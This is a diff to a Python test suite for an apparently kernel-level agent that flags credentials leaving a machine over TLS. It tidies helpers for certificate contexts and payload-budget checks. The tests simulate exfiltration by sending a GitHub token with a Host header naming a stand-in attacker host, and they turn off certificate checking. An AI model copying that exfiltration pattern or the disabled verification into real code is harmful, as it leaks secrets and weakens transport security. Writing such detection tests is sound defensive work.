@@ -11,7 +11,7 @@ import tempfile
 import threading
 import time
 
-from cwtest import Agent, Skip, github_token, kernel_map, require_root
+from cwtest import Agent, Skip, github_token, kernel_map, require_root, wait_until
 
 EVIL = "exfil.attacker.test"
 
@@ -39,6 +39,14 @@ def free_port():
     port = s.getsockname()[1]
     s.close()
     return port
+
+
+def client_ctx():
+    """A client context that takes the tests' self-signed certificates."""
+    ctx = ssl.create_default_context()
+    ctx.check_hostname = False
+    ctx.verify_mode = ssl.CERT_NONE
+    return ctx
 
 
 class TlsServer:
@@ -115,9 +123,7 @@ def test_python_urllib_openssl():
 
     def client(port, token):
         import urllib.request
-        ctx = ssl.create_default_context()
-        ctx.check_hostname = False
-        ctx.verify_mode = ssl.CERT_NONE
+        ctx = client_ctx()
         req = urllib.request.Request("https://127.0.0.1:%d/v1" % port,
                                      headers={"Host": EVIL, "Authorization": "token " + token})
         urllib.request.urlopen(req, context=ctx, timeout=10).read()
@@ -402,9 +408,7 @@ def test_sequential_sessions_in_one_process_get_their_own_destination():
     srv = TlsServer()
     token = github_token()
     try:
-        ctx = ssl.create_default_context()
-        ctx.check_hostname = False
-        ctx.verify_mode = ssl.CERT_NONE
+        ctx = client_ctx()
         for host in ("api.github.com", EVIL, "api.github.com"):
             raw = socket.create_connection(("127.0.0.1", srv.port))
             s = ctx.wrap_socket(raw, server_hostname=host)
@@ -481,6 +485,11 @@ class TlsSink:
         shutil.rmtree(self.dir, ignore_errors=True)
 
 
+def _budgets(agent, pid):
+    """The kernel's payload-budget counts of pid's TLS sessions."""
+    return [e for e in kernel_map(agent, "tls_captured") if e["key"]["tgid"] == pid]
+
+
 def test_credential_on_a_connection_that_stays_open_is_alerted_while_it_is_open():
     """A keep-alive connection goes quiet after a request whose token is the last thing in
     it: the alert comes within a second or so, not when the connection closes."""
@@ -488,9 +497,7 @@ def test_credential_on_a_connection_that_stays_open_is_alerted_while_it_is_open(
     agent = Agent("--include-loopback")
     sink = TlsSink()
     token = github_token()
-    ctx = ssl.create_default_context()
-    ctx.check_hostname = False
-    ctx.verify_mode = ssl.CERT_NONE
+    ctx = client_ctx()
     s = None
     try:
         s = ctx.wrap_socket(socket.create_connection(("127.0.0.1", sink.port)),
@@ -520,9 +527,7 @@ def test_ended_session_leaves_no_payload_budget_behind():
     require_root()
     agent = Agent("--include-loopback")
     sink = TlsSink()
-    ctx = ssl.create_default_context()
-    ctx.check_hostname = False
-    ctx.verify_mode = ssl.CERT_NONE
+    ctx = client_ctx()
     me = os.getpid()
     try:
         s = ctx.wrap_socket(socket.create_connection(("127.0.0.1", sink.port)),
@@ -530,14 +535,11 @@ def test_ended_session_leaves_no_payload_budget_behind():
         for _ in range(6):
             s.sendall(b"x" * 16384)
         time.sleep(0.3)
-        counted = [e for e in kernel_map(agent, "tls_captured") if e["key"]["tgid"] == me]
+        counted = _budgets(agent, me)
         assert counted and max(e["value"]["captured"] for e in counted) >= 64 << 10, counted
         s.close()
-        deadline = time.monotonic() + 5
-        while time.monotonic() < deadline and \
-                [e for e in kernel_map(agent, "tls_captured") if e["key"]["tgid"] == me]:
-            time.sleep(0.1)
-        left = [e for e in kernel_map(agent, "tls_captured") if e["key"]["tgid"] == me]
+        wait_until(lambda: not _budgets(agent, me), 5)
+        left = _budgets(agent, me)
     finally:
         agent.stop()
         sink.close()
@@ -572,16 +574,12 @@ def test_sessions_of_an_image_end_when_the_process_execs():
                                  stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
         assert child.stdout.readline().strip() == "sent"
         time.sleep(0.3)
-
-        def mine():
-            return [e for e in kernel_map(agent, "tls_captured") if e["key"]["tgid"] == child.pid]
-        assert mine(), "the session was never counted"
+        assert _budgets(agent, child.pid), "the session was never counted"
         child.stdin.write("\n")
         child.stdin.flush()
-        deadline = time.monotonic() + 2	# the new image sleeps 5 s: it has not exited
-        while mine() and time.monotonic() < deadline:
-            time.sleep(0.1)
-        left = mine()
+        # the new image sleeps 5 s: it has not exited within these 2
+        wait_until(lambda: not _budgets(agent, child.pid), 2)
+        left = _budgets(agent, child.pid)
         assert child.poll() is None
     finally:
         if child and child.poll() is None:
